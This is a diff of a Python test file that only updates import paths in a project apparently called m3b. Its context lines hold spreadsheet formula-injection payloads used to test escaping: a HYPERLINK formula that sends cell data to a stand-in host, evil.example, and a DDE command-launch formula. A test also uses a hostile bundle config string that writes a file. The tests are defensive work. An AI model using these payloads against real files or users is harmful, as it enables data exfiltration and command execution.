@@ -15,8 +15,8 @@ import pytest
 from m3b.bench.render import to_csv
 from m3b.bench.tables import ResultTable
 from m3b.cli.predicting import _write_entries
-from m3b.models.card_figures import escape_markdown
-from m3b.models.exporting.metadata import as_data, make_metadata
+from m3b.models.export.monai_bundle import as_data, make_metadata
+from m3b.models.model_card import escape_markdown
 from m3b.writing import csv_cell, escape_control_codes, json_text, to_one_line
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"ok")', "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
@@ -99,7 +99,7 @@ def test_a_bundle_of_a_hostile_class_name_runs_nothing(tmp_path: Path, monkeypat
     pytest.importorskip("torch")
     from monai.bundle import ConfigWorkflow
 
-    from m3b.models.exporting import export_model
+    from m3b.models.export import export_model
     from models.export_kit import PARTS, PREDICT, make_deliverable
 
     program = f"$open({str(tmp_path / 'PWNED')!r}, 'w')"
